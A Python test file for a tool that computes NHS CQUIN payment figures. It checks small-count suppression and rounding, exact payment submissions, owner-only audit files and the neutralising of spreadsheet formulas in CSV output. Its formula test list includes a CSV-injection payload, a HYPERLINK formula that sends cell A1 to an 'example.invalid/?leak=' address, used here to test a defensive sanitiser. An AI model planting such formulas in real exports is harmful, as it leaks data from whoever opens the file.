"""Exact figures for the parties; for publication, patient counts published as NHS Digital does; formula-safe CSVs."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest

from cquin.disclosure import SUPPRESSED, publish, published_percent
from cquin.outfile import safe_cell
from cquin.render.files import write_submission
from cquin.render.results import result_csv
from cquin.runner import load_to_folder, run_evaluation
from cquin.store import open_store

from .conftest import DemoRun, write_canonical

# NHS Digital (codonPython suppression.py): 0 stays 0; 1-7 shown as *; other counts rounded to the nearest 5.
PUBLISHED = [
    (0, "0", ""),
    (1, SUPPRESSED, "suppressed"),
    (3, SUPPRESSED, "suppressed"),
    (7, SUPPRESSED, "suppressed"),
    (8, "10", "rounded"),
    (10, "10", "rounded"),
    (12, "10", "rounded"),
    (13, "15", "rounded"),
    (1017, "1015", "rounded"),
    (1018, "1020", "rounded"),
]


@pytest.mark.parametrize(("count", "shown", "marker"), PUBLISHED)
def test_counts_are_published_as_nhs_digital_does(count: int, shown: str, marker: str) -> None:
    p = publish(count, control=True)
    assert (p.text, p.marker) == (shown, marker)


def test_counts_are_exact_unless_published() -> None:
    assert publish(3).text == "3"
    assert publish(3, control=False).text == "3"
    assert publish(1017, control=False).text == "1017"


def test_a_percentage_from_a_suppressed_count_is_not_shown() -> None:
    assert published_percent(3, 40, control=True) is None
    assert published_percent(30, 5, control=True) is None


def test_a_percentage_is_that_of_the_published_counts() -> None:
    # 12 of 48 is 25.00% exactly, but 12 -> 10 and 48 -> 50 are what is published: 20.00%.
    assert published_percent(12, 48, control=True) == "20.00"


# ----------------------------------------------------------------------------- a count of 3 in the submission

THREE_PATIENTS = {
    "patients.csv": """
patient_id,date_of_birth,sex,served_from,served_to
9990000018,1950-01-01,female,2017-01-01,
9990000026,1940-01-01,male,2017-01-01,
9990000034,1945-06-30,female,2017-01-01,
""",
    "conditions.csv": """
patient_id,code_system,code,recorded_on
9990000018,snomed,44054006,2017-05-01
9990000026,icd10,E11.9,2017-05-01
9990000034,gpps,diabetes,2017-05-01
""",
    "assessments.csv": """
patient_id,assessed_on,respondent,instrument,pam_score,pam_level,gpps_q32,gpps_q33
9990000018,2017-06-01,patient,pam,,1,,
9990000026,2017-06-01,patient,pam,40.0,,,
9990000034,2017-06-01,patient,pam,,2,,
""",
}


@pytest.fixture(scope="module")
def three_patient_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    base = tmp_path_factory.mktemp("three")
    ev = run_evaluation(write_canonical(base / "data", THREE_PATIENTS), store=base / "audit.sqlite")
    assert ev.result.cohorts["year1"] == 3  # the fixture is what the test says it is
    assert ev.run_id is not None
    return base / "audit.sqlite", ev.run_id


def _submission(path: Path) -> dict[tuple[str, str], str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return {(r["item"], r["measure"]): r["value"] for r in csv.DictReader(fh)}


def test_the_submission_is_always_exact_so_the_commissioner_can_check_the_band(
    three_patient_run: tuple[Path, str], tmp_path: Path
) -> None:
    # Issue 16: the return the provider submits for payment carried "*" of "*"; the parties exchange exact figures.
    store, run_id = three_patient_run
    write_submission(store, run_id, tmp_path / "submission.csv")
    rows = _submission(tmp_path / "submission.csv")
    assert rows[("cohort.year1", "patients")] == "3"
    assert rows[("y1.activation_assessment", "numerator")] == "3"
    assert rows[("y1.activation_assessment", "percent")] == "100.00"
    assert rows[("disclosure_control", "")].startswith("not applied: exact")


def test_the_submission_names_no_patient(three_patient_run: tuple[Path, str], tmp_path: Path) -> None:
    store, run_id = three_patient_run
    write_submission(store, run_id, tmp_path / "submission.csv")
    text = (tmp_path / "submission.csv").read_text(encoding="utf-8-sig")
    for nhs in ("9990000018", "9990000026", "9990000034"):
        assert nhs not in text


def test_the_submission_is_written_for_excel_with_a_byte_order_mark(three_patient_run: tuple[Path, str], tmp_path: Path) -> None:
    store, run_id = three_patient_run
    write_submission(store, run_id, tmp_path / "submission.csv")
    assert (tmp_path / "submission.csv").read_bytes().startswith(b"\xef\xbb\xbfitem,measure,value,disclosure")


def test_without_a_contract_value_the_money_says_so_not_zero(three_patient_run: tuple[Path, str], tmp_path: Path) -> None:
    store, run_id = three_patient_run
    write_submission(store, run_id, tmp_path / "submission.csv")
    rows = _submission(tmp_path / "submission.csv")
    assert rows[("y1.activation_assessment", "payment")] == "no contract value given"
    assert rows[("total", "earned")] == "no contract value given"


def test_the_component_csv_is_exact_by_default(demo_run: DemoRun) -> None:
    result = demo_run.evaluation.result
    rows = list(csv.DictReader(result_csv(result, list(result.available)).splitlines()))
    staff = next(r for r in rows if r["component"] == "y1.staff_training")
    assert (staff["numerator"], staff["denominator"], staff["percent"], staff["disclosure"]) == ("4", "6", "66.67", "")


def test_publishing_alters_patient_counts_only_and_marks_each(demo_run: DemoRun) -> None:
    result = demo_run.evaluation.result
    rows = {r["component"]: r for r in csv.DictReader(result_csv(result, list(result.available), publish=True).splitlines())}
    staff = rows["y1.staff_training"]  # 4 of 6 staff: staff counts are not patient counts, never suppressed
    assert (staff["numerator"], staff["denominator"], staff["percent"]) == ("4", "6", "66.67")
    improved = rows["y2.activation_improvement"]  # 102 of 234 patients: rounded to 100 of 235
    assert (improved["numerator"], improved["denominator"]) == ("100", "235")
    assert improved["disclosure"] == "numerator rounded; denominator rounded"
    assert improved["band"] == result.component("y2.activation_improvement").band  # decided on the exact counts
    assert improved["payment"] == f"{result.component('y2.activation_improvement').payment:.2f}"


# ----------------------------------------------------------------------------- formula cells

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ' =HYPERLINK("x")',
    '\uff1dHYPERLINK("x")',  # a full-width equals sign
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+12", "3.25", "-0.5", "1e5", "plain text", "9990000018", ""])
def test_numbers_and_plain_text_are_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_a_hyperlink_formula_in_an_exported_csv_is_neutralised(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.invalid","x")'
    files = dict(THREE_PATIENTS)
    quoted = '"' + formula.replace('"', '""') + '"'  # as a CSV field
    files["patients.csv"] += f"9990000042,{quoted},female,2017-01-01,\n"  # a date of birth no date parser accepts
    source = write_canonical(tmp_path / "data", files)
    load_to_folder(source, tmp_path / "out")
    with (tmp_path / "out" / "rejections.csv").open(encoding="utf-8", newline="") as fh:
        values = [r["value"] for r in csv.DictReader(fh)]
    assert "'" + formula in values
    assert formula not in values


# ----------------------------------------------------------------------------- the audit store


def test_the_audit_store_is_readable_by_its_owner_only(three_patient_run: tuple[Path, str]) -> None:
    store, _ = three_patient_run
    for path in [store, *store.parent.glob(store.name + "-*")]:  # the database and its write-ahead log
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path


def test_a_new_audit_store_is_created_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "new" / "audit.sqlite"
    open_store(path)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
